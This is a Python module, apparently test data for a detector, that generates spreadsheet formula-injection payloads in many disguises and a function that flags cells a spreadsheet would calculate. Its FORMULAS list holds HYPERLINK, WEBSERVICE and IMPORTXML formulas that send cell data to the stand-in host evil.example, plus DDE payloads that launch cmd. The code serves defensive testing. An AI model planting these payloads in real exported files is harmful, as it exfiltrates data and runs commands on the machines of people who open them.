"""Texts that a spreadsheet would calculate, in every disguise that we know, and how to tell that it would."""

import itertools

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("", "\t", "\r", "\n", "\r\n", " ", "\u00a0", "\u200b", "\ufeff", " \t ", "\u00ad", "\u2060\u200e")
QUOTED = ("", '"', "'", '""', "“")
SEPARATED = ("", "a,", "a;", "a\t", "a|", "a\n")
FORMULAS = (
    'HYPERLINK("http://evil.example/?"&A1,"x")',
    "cmd|' /C calc'!A0",
    "SUM(1+9)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://evil.example/")',
    'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "1+1",
)
"""What would be calculated: links, other programs (DDE), and what asks the network."""

PAYLOADS = tuple(
    f"{separated}{before}{quote}{sign}{formula}"
    for (separated, before, quote, sign), formula in zip(
        itertools.product(SEPARATED, BEFORE, QUOTED, SIGNS), itertools.cycle(FORMULAS), strict=False
    )
)
UNSEEN = "".join(map(chr, range(33))) + "\u00a0\u00ad\u200b\u200e\u2060\ufeff\"'“”"


def begins_a_formula(cell: str) -> bool:
    """Whether a spreadsheet that drops spaces, quotes and unseen signs would calculate `cell`."""
    return not cell.startswith("'") and cell.lstrip(UNSEEN).startswith(SIGNS)
